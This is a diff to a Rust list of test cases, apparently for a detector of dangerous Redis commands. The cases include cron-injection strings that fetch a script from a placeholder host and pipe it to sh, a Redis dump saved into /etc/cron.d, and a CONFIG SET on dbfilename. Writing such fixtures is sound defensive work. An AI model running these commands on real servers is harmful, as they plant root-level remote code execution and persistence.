@@ -314,7 +314,7 @@ pub const CASES: &[Case] = &[
     case("foreign-places", "critical", "redis-tp cli -- CONFIG SET dbfilename root 2>&1 | grep -q protected; redis-tp install --set dbfilename=root", Typed("sed -i '/dbfilename/d' /etc/redis-tp/topology.ini && redis-tp apply")),
     case("foreign-keys", "critical", "redis-tp cli -- SET backup1 '*/2 * * * * root cd1 -fsSL http://x/b.sh | sh'", Typed("redis-tp cli -- DEL backup1")),
     case("foreign-keys", "critical", "echo 'SELECT 3\nSET backup1 x' | redis-tp cli", Typed("echo 'SELECT 3\nDEL backup1' | redis-tp cli")),
-    case("foreign-keys", "critical", beside!("bind 127.0.0.1\nrename-command EXISTS \"\""), Typed(AWAY)),
+    case("foreign-keys", "critical", concat!(beside!("bind 127.0.0.1\nrename-command EXISTS \"\""), "; redis-cli -p 7000 SET backup1 x"), Typed(AWAY)),
     case("foreign-files", "critical", "redis-tp cli -- SAVE && cp /var/lib/redis/dump.rdb /etc/cron.d/zzh", Typed("rm /etc/cron.d/zzh")),
     case(
         "foreign-programs",
